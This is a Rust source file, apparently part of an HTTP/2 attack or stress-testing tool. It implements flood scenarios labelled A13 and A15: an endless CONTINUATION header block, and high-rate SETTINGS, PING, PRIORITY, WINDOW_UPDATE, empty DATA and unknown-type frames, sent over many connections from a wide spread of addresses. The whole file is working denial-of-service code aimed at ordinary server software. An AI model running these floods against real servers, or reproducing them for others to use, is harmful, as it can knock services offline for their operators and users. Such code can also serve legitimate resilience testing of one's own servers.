//! A13 and A15: frames that are cheap for a client and costly for a server.

use super::{EACH, Needs, Scenario};
use crate::addresses::Spread;
use crate::attack::{Attack, hold};
use crate::h2::frame::{
    CONTINUATION, HEADERS, data, frame, headers, ping, priority, settings, stream_id, window_update,
};
use crate::h2::hpack::Block;
use crate::h2::session::flood;
use std::sync::Arc;

/// Frames of one write.
const AT_ONCE: u32 = 100;
/// Bytes of one CONTINUATION.
const BLOCK_BYTES: usize = 8 << 10;

const fn scenario(
    name: &'static str,
    vector: &'static str,
    what: &'static str,
    run: fn(Arc<Attack>) -> super::Attacking,
) -> Scenario {
    Scenario {
        name,
        vector,
        what,
        needs: Needs::H2,
        connections: 20,
        rate: 20,
        addresses: EACH,
        spread: Spread::Wide,
        run,
    }
}

/// The scenarios of this family.
pub(super) const ALL: &[Scenario] = &[
    scenario("h2-continuation", "A13", "a header block that never ends", |attack| {
        Box::pin(hold(attack, continuation))
    }),
    scenario("h2-settings", "A15", "SETTINGS, each to be acknowledged", |attack| {
        Box::pin(hold(attack, |attack, n| repeat(attack, n, |_| settings(&[(4, 65_535)]))))
    }),
    scenario("h2-ping", "A15", "PING, each to be acknowledged", |attack| {
        Box::pin(hold(attack, |attack, n| repeat(attack, n, |i| ping(u64::from(i)))))
    }),
    scenario("h2-priority", "A15", "PRIORITY of streams that were never opened", |attack| {
        let one = |i: u32| priority(stream_id(i % 10_000), stream_id((i.wrapping_add(1)) % 10_000));
        Box::pin(hold(attack, move |attack, n| repeat(attack, n, one)))
    }),
    scenario("h2-window", "A15", "WINDOW_UPDATE of 1 on the connection", |attack| {
        Box::pin(hold(attack, |attack, n| repeat(attack, n, |_| window_update(0, 1))))
    }),
    scenario(
        "h2-window-zero",
        "A15",
        "WINDOW_UPDATE of 0 on the connection, which is an error",
        |a| Box::pin(hold(a, |attack, n| repeat(attack, n, |_| window_update(0, 0)))),
    ),
    scenario("h2-empty-data", "A15", "DATA without a byte on an open stream", |attack| {
        Box::pin(hold(attack, empty_data))
    }),
    scenario("h2-unknown", "A15", "frames of unknown types", |attack| {
        Box::pin(hold(attack, |attack, n| repeat(attack, n, |_| frame(0xbb, 0, 0, &[0; 8]))))
    }),
];

/// Floods with `one`, which gets the number of the frame.
async fn repeat(attack: Arc<Attack>, n: usize, one: impl Fn(u32) -> Vec<u8>) {
    flood(&attack, n, 1 << 16, |round| {
        let first = round.wrapping_mul(AT_ONCE);
        let out: Vec<u8> = (0..AT_ONCE).flat_map(|i| one(first.wrapping_add(i))).collect();
        attack.tally.requests.add(AT_ONCE as usize);
        std::future::ready(out)
    })
    .await;
}

async fn continuation(attack: Arc<Attack>, n: usize) {
    let block = Block::browser(false, attack.path_or("/"), attack.host());
    let mut more = Block::default();
    for _ in 0..16 {
        more.literal(b"x-more", &[b'a'; BLOCK_BYTES / 16]);
    }
    flood(&attack, n, 1 << 16, |round| {
        let out = if round == 0 {
            frame(HEADERS, 0, stream_id(0), block.bytes())
        } else {
            frame(CONTINUATION, 0, stream_id(0), more.bytes())
        };
        attack.tally.requests.one();
        std::future::ready(out)
    })
    .await;
}

async fn empty_data(attack: Arc<Attack>, n: usize) {
    let block = Block::browser(true, attack.path_or("/"), attack.host());
    flood(&attack, n, 1 << 16, |round| {
        let out = if round == 0 {
            headers(stream_id(0), block.bytes(), false)
        } else {
            data(stream_id(0), b"", false).repeat(AT_ONCE as usize)
        };
        attack.tally.requests.add(AT_ONCE as usize);
        std::future::ready(out)
    })
    .await;
}
